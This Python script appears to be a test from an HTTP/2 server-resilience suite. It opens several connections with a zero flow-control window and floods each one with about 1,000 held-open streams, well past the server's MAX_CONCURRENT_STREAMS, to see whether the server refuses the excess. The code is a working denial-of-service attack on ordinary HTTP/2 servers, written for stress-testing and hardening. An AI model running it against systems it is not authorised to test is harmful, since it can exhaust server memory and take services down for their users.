#!/usr/bin/env python3
"""Too many streams: on each of --conns connections, with INITIAL_WINDOW_SIZE 0 (so no
response can finish and every stream stays open), ask for a large file on --count
streams, far beyond the server's SETTINGS_MAX_CONCURRENT_STREAMS, and hold them for
--seconds. A resilient server refuses the excess (RST_STREAM REFUSED_STREAM or
PROTOCOL_ERROR, or GOAWAY) and its memory stays bounded."""
import time

import h2attack as a


def attack(args):
    agg = a.Agg()
    conns = []
    block = a.request_block(a.authority(args), args.big, scheme=a.scheme(args))
    opened = 0
    mcs = None
    for _ in range(args.conns):
        c = a.Conn(args, our_settings=[(a.INITIAL_WINDOW_SIZE, 0)])
        st = a.wait_settings(c, 0.5)
        mcs = st.get("MAX_CONCURRENT_STREAMS", "unlimited")
        for start in range(0, args.count, 100):
            n = min(100, args.count - start)
            if not c.send(b"".join(a.frame(a.HEADERS, a.END_STREAM | a.END_HEADERS, 1 + 2 * (start + j), block)
                                   for j in range(n)), timeout=2.0):
                break
            opened += n
        conns.append(c)
    deadline = a.until_deadline(args)
    while time.monotonic() < deadline and not all(c.closed for c in conns):
        for c in conns:
            c.pump(0.05)
    answered = sum(len(c.headers_seen) for c in conns)
    for c in conns:
        agg.add(c)
        c.close()
    return {"sent": "%d streams held open on %d connections (server MAX_CONCURRENT_STREAMS %s); %d got headers"
            % (opened, len(conns), mcs, answered), "streams": opened, "max_concurrent_streams": mcs,
            "reaction": agg.reaction()}


def extra(p):
    p.add_argument("--conns", type=int, default=8)


if __name__ == "__main__":
    a.run("too_many_streams", __doc__, attack, count_default=1000, extra_args=extra)
